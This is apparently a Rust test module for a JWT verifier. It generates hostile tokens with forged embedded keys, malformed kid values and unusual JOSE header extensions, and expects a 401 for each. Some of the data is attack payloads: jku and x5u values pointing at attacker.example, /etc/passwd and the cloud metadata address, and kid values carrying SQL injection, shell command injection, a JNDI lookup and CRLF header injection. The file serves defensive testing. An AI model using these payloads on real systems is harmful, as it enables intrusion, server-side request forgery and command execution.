//! The classes that are about what else stands in a token's header (T5, T6, T15).

use super::craft::{encode, hs256, parts, private};
use super::table::Table;
use super::world::{Signing, World, key_file};
use jsonwebtoken::Algorithm;

/// T5: keys, and places of keys, in the token itself. No key but ours is ever used, and nothing is fetched: the
/// decision is a pure function, there is nothing in it that could.
pub(crate) fn keys(table: &mut Table) {
    let oct = encode([b'k'; 32]);
    let members = [
        ("jwk oct", "jwk", format!(r#"{{"kty":"oct","k":"{oct}"}}"#)),
        ("jwk oct, empty", "jwk", r#"{"kty":"oct","k":""}"#.into()),
        ("jwk OKP", "jwk", r#"{"kty":"OKP","crv":"Ed25519","x":"11qYAYKxCrfVS_7TyWQHOg7hcvPapiMlrwIaaPcHURo"}"#.into()),
        ("jwk OKP with a short x", "jwk", r#"{"kty":"OKP","crv":"Ed25519","x":"AAAA"}"#.into()),
        ("jwk OKP with a long x", "jwk", format!(r#"{{"kty":"OKP","crv":"Ed25519","x":"{}"}}"#, encode([9; 64]))),
        ("jwk EC", "jwk", format!(r#"{{"kty":"EC","crv":"P-256","x":"{oct}","y":"{oct}"}}"#)),
        ("jwk RSA", "jwk", r#"{"kty":"RSA","n":"AQAB","e":"AQAB"}"#.into()),
        ("jwk private", "jwk", format!(r#"{{"kty":"OKP","crv":"Ed25519","d":"{oct}","x":"{oct}"}}"#)),
        ("jwk null", "jwk", "null".into()),
        ("jku https", "jku", r#""https://attacker.example/jwks.json""#.into()),
        ("jku file", "jku", r#""file:///etc/passwd""#.into()),
        ("jku loopback", "jku", r#""http://127.0.0.1:9181/metrics""#.into()),
        ("jku metadata", "jku", r#""http://169.254.169.254/latest/meta-data/""#.into()),
        ("x5u", "x5u", r#""https://attacker.example/chain.pem""#.into()),
        ("x5c", "x5c", r#"["MIIBIjANBgkq"]"#.into()),
        ("x5c empty", "x5c", "[]".into()),
        ("x5t", "x5t", r#""AAAAAAAAAAAAAAAAAAAAAAAAAAA""#.into()),
        ("x5t#S256", "x5t#S256", format!("\"{oct}\"")),
    ];
    let hmac = World::new(Signing::Hs256);
    let ed25519 = World::new(Signing::EdDsa);
    let attacker = private("ed25519-attacker.pem", Algorithm::EdDSA);
    for (name, member, json) in &members {
        let ours = hmac.draft().header_member(member, json).ours();
        table.token(&hmac, "token-malformed 401", &format!("{name}, signed by us"), ours);
        let injected = hmac.draft().header_member(member, json).sign(&hs256(&[b'k'; 32]));
        table.token(&hmac, "token-malformed 401", &format!("{name}, signed by its key"), injected);
        let injected = ed25519.draft().header_member(member, json).sign(&attacker);
        table.token(&ed25519, "token-malformed 401", &format!("{name}, signed by the attacker"), injected);
    }
}

/// T6: a `kid` that is meant for a file system, a database, a shell or a log.
pub(crate) fn key_names(table: &mut Table) {
    let world = World::new(Signing::Hs256);
    for kid in [
        "../../../../dev/null",
        "/dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "file:///dev/null",
        "' UNION SELECT 'key' -- ",
        "'; DROP TABLE keys; --",
        "$(touch /pwned)",
        "`id`",
        "| id",
        "https://attacker.example/key",
        "__proto__",
        "constructor",
        "${jndi:ldap://attacker.example/a}",
        "*",
        "%s%n",
        "",
        " ",
        "\u{202e}nigol",
    ] {
        let json = serde_json::Value::from(kid).to_string();
        let draft = world.draft().header_member("kid", &json);
        table.token(&world, "key-unknown 401", &format!("{kid:?}"), draft.ours());
        let empty = draft.sign(&hs256(b""));
        table.token(&world, "key-unknown 401", &format!("{kid:?}, signed with nothing"), empty);
    }
    let own = world.kid().to_owned();
    for (name, kid) in [
        ("our kid in the other case", flip_case(&own)),
        ("our kid and a blank", format!("{own} ")),
        ("our kid and NUL", format!("{own}\\u0000")),
        ("our kid and CRLF", format!("{own}\\r\\nRemote-User: admin")),
        ("our kid cut by one", own[1..].to_owned()),
        ("our kid in a path", format!("./{own}")),
    ] {
        let token = world.draft().header_member("kid", &format!("\"{kid}\"")).ours();
        table.token(&world, "key-unknown 401", name, token);
    }
    for json in ["null", "0", "true", "[]", "{}", &format!("[\"{own}\"]"), &format!("{{\"{own}\":1}}")] {
        let token = world.draft().header_member("kid", json).ours();
        table.token(&world, "token-malformed 401", &format!("kid {json}", json = json.replace(&own, "OURS")), token);
    }
    let long = format!("\"{}\"", "k".repeat(6000));
    table.token(&world, "token-malformed 401", "6000 bytes", world.draft().header_member("kid", &long).ours());
    let long = format!("\"{}\"", "k".repeat(2000));
    table.token(&world, "key-unknown 401", "2000 bytes", world.draft().header_member("kid", &long).ours());
    table.token(&world, "token-malformed 401", "no kid", world.draft().without_header_member("kid").ours());
    let other = World::new(Signing::EdDsa);
    let foreign = format!("\"{}\"", other.kid());
    let token = world.draft().header_member("kid", &foreign).ours();
    table.token(&world, "key-unknown 401", "the kid of another installation", token);
}

fn flip_case(text: &str) -> String {
    let flip = |letter: char| match letter.is_ascii_lowercase() {
        true => letter.to_ascii_uppercase(),
        false => letter.to_ascii_lowercase(),
    };
    text.chars().map(flip).collect()
}

/// T15: extensions of JOSE that change what the bytes mean.
pub(crate) fn extensions(table: &mut Table) {
    let world = World::new(Signing::Hs256);
    for (name, member, json) in [
        ("crit unknown", "crit", r#"["urn:example:unknown"]"#),
        ("crit empty", "crit", "[]"),
        ("crit a string", "crit", r#""exp""#),
        ("crit null", "crit", "null"),
        ("crit a standard name", "crit", r#"["alg"]"#),
        ("crit exp", "crit", r#"["exp"]"#),
        ("crit b64", "crit", r#"["b64"]"#),
        ("b64 false", "b64", "false"),
        ("b64 true", "b64", "true"),
        ("zip", "zip", r#""DEF""#),
        ("zip null", "zip", "null"),
        ("enc", "enc", r#""A256GCM""#),
        ("cty JWT", "cty", r#""JWT""#),
        ("epk", "epk", r#"{"kty":"EC","crv":"P-256","x":"AA","y":"AA"}"#),
        ("p2c of two to the 31", "p2c", "2147483648"),
        ("p2s", "p2s", r#""AAAA""#),
        ("apu", "apu", r#""AAAA""#),
        ("nonce", "nonce", r#""1""#),
        ("url", "url", r#""https://app.example.com/""#),
        ("a claim in the header", "sub", r#""alice""#),
        ("a member nobody knows", "x", "1"),
        ("an empty member name", "", "1"),
        ("an upper-case ALG beside alg", "ALG", r#""none""#),
    ] {
        table.token(&world, "token-malformed 401", name, world.draft().header_member(member, json).ours());
    }
    let critical = world.draft().header_member("crit", r#"["b64"]"#).header_member("b64", "false").ours();
    table.token(&world, "token-malformed 401", "crit and b64 false", critical);
    for (name, alg) in [
        ("dir", "dir"),
        ("PBES2", "PBES2-HS256+A128KW"),
        ("RSA1_5", "RSA1_5"),
        ("RSA-OAEP", "RSA-OAEP"),
        ("ECDH-ES", "ECDH-ES"),
        ("A256KW", "A256KW"),
    ] {
        let token = world.draft().header_member("alg", &format!("\"{alg}\"")).ours();
        table.token(&world, "signature-invalid 401", &format!("alg {name}"), token);
        let token = world.draft().header_member("alg", &format!("\"{alg}\"")).header_member("enc", "\"A128CBC-HS256\"");
        table.token(&world, "token-malformed 401", &format!("alg {name} with enc"), token.ours());
    }
    let good = world.mint();
    let [header, payload, signature] = parts(&good);
    let jwe = encode(r#"{"alg":"dir","enc":"A256GCM"}"#);
    let iv = encode([0; 12]);
    for (name, token) in [
        ("five parts", format!("{jwe}..{iv}.{payload}.{signature}")),
        ("five parts around a good token", format!("{header}.{payload}.{signature}.{iv}.{iv}")),
        ("four parts", format!("{good}.{signature}")),
        ("a dot at the end", format!("{good}.")),
        ("a dot at the beginning", format!(".{good}")),
        ("detached payload", format!("{header}..{signature}")),
        ("no header", format!(".{payload}.{signature}")),
        ("dots only", "..".to_owned()),
        ("one part", header.to_owned()),
        ("nothing but base64", "AAAA".to_owned()),
        ("a nested token", world.draft().payload(&good).ours()),
        ("a token encoded once more", encode(&good)),
        ("a deflated payload", world.draft().payload([0x4b, 0x04, 0x00]).ours()),
    ] {
        table.token(&world, "token-malformed 401", name, token);
    }
    let flattened = format!(r#"{{"protected":"{header}","payload":"{payload}","signature":"{signature}"}}"#);
    table.token(&world, "token-malformed 401", "flattened JSON serialisation", flattened);
    let general =
        format!(r#"{{"payload":"{payload}","signatures":[{{"protected":"{header}","signature":"{signature}"}}]}}"#);
    table.token(&world, "token-malformed 401", "general JSON serialisation", general);
    let pem = encode(key_file("rsa-ours.public.pem"));
    table.token(&world, "token-malformed 401", "a key in place of a token", pem);
}
